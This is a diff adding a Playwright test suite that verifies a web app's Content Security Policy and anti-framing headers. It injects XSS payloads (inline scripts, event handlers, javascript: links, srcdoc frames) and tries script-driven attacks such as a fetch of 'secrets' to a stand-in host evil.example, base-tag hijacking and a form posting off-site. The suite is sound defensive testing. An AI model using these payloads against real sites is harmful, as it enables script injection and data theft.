@@ -1,0 +1,135 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { type Browser, expect, type Page, test } from '@playwright/test'
+
+// What somebody would try who got markup into a page or the page into a frame; each is seen to work without the policy.
+
+/** A page that counts as hit once `window.hit` is there; the evil site answers everybody. */
+async function open(browser: Browser, bypassCSP: boolean, markup = '') {
+  const context = await browser.newContext({ bypassCSP, serviceWorkers: 'block' })
+  const page = await context.newPage()
+  await page.route('https://evil.example/**', (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      body: 'window.hit = 1',
+      headers: { 'access-control-allow-origin': '*' },
+    }),
+  )
+  await page.route('/terms', async (route) => {
+    const response = await route.fetch()
+    const body = (await response.text()).replace('<body>', () => `<body>${markup}`)
+    await route.fulfill({ response, body })
+  })
+  await page.goto('/terms')
+  return page
+}
+
+const hit = (page: Page) => page.evaluate(() => 'hit' in window)
+
+const markups = {
+  'a script': '<script>window.hit = 1</script>',
+  'a module': '<script type="module">window.hit = 1</script>',
+  'a script in data': '<script src="data:text/javascript,window.hit=1"></script>',
+  'a script of another site': '<script src="https://evil.example/hit.js"></script>',
+  'an event handler': '<img src="/nothing.png" alt="" onerror="window.hit = 1">',
+  'a handler of a drawing': '<svg onload="window.hit = 1"></svg>',
+  'a frame with a script': '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
+  'a link of javascript': '<a id="press" href="javascript:void(window.hit = 1)">press</a>',
+}
+for (const [what, markup] of Object.entries(markups)) {
+  test(`${what} in the page does nothing`, async ({ browser }) => {
+    for (const bypassed of [true, false]) {
+      const page = await open(browser, bypassed, markup)
+      const link = page.locator('#press')
+      if (await link.count()) await link.click()
+      if (bypassed) await expect.poll(() => hit(page)).toBe(true)
+      await page.waitForTimeout(300)
+      expect(await hit(page)).toBe(bypassed)
+      await page.context().close()
+    }
+  })
+}
+
+/** What a script of ours that was fooled could be made to do; each answers whether it could. */
+const deeds: Record<string, () => boolean | Promise<boolean>> = {
+  // Later: what a debugger runs by itself may do this anyway.
+  'run text': () =>
+    new Promise((resolve) => {
+      setTimeout(() => {
+        try {
+          resolve(new Function('return true')())
+        } catch {
+          resolve(false)
+        }
+      })
+    }),
+  'write markup': () => {
+    document.body.innerHTML = '<b id="written"></b>'
+    return document.querySelector('#written') !== null
+  },
+  'make a policy for markup': () => {
+    const types = (
+      window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
+    ).trustedTypes
+    return Boolean(types.createPolicy('evil', { createHTML: (text: string) => text }))
+  },
+  'read from another site': async () => (await fetch('https://evil.example/?secrets')).ok,
+  'start a worker of its own': async () =>
+    new Promise((resolve) => {
+      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
+      worker.onmessage = () => resolve(true)
+      worker.onerror = () => resolve(false)
+    }),
+  'move every relative address': () => {
+    document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))
+    return document.baseURI.startsWith('https://evil.example/')
+  },
+  'hide the page under a style': () => {
+    const style = document.createElement('style')
+    style.textContent = 'body { display: none }'
+    document.head.append(style)
+    return getComputedStyle(document.body).display === 'none'
+  },
+}
+for (const [what, deed] of Object.entries(deeds)) {
+  test(`a script cannot ${what}`, async ({ browser }) => {
+    for (const bypassed of [true, false]) {
+      const page = await open(browser, bypassed)
+      expect(await page.evaluate(deed).catch(() => false)).toBe(bypassed)
+      await page.context().close()
+    }
+  })
+}
+
+test('a form does not send what was typed to another site', async ({ browser }) => {
+  const form = '<form action="https://evil.example/"><button id="press">Sign in</button></form>'
+  for (const bypassed of [true, false]) {
+    const page = await open(browser, bypassed, form)
+    const sent: string[] = []
+    page.on('request', (request) => request.url().includes('evil') && sent.push(request.url()))
+    await page.locator('#press').click({ noWaitAfter: true })
+    if (bypassed) await expect.poll(() => sent).toEqual(['https://evil.example/?'])
+    await page.waitForTimeout(300)
+    expect(sent.length).toBe(bypassed ? 1 : 0)
+    await page.context().close()
+  }
+})
+
+test('no site can show a page of this one in a frame', async ({ page, baseURL }) => {
+  const server = createServer((_, response) => {
+    response.setHeader('content-type', 'text/html')
+    const frame = (path: string) => `<iframe src="${baseURL}${path}"></iframe>`
+    response.end(
+      `<h1>Win</h1>${['/', '/auth', '/dashboard', '/admin/users', '/nowhere'].map(frame).join('')}`,
+    )
+  }).listen(0)
+  try {
+    await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`)
+    await page.waitForLoadState('networkidle')
+    const frames = page.frames().slice(1)
+    expect(frames).toHaveLength(5)
+    for (const frame of frames) expect(frame.url()).toMatch(/^chrome-error:/)
+  } finally {
+    server.close()
+  }
+})
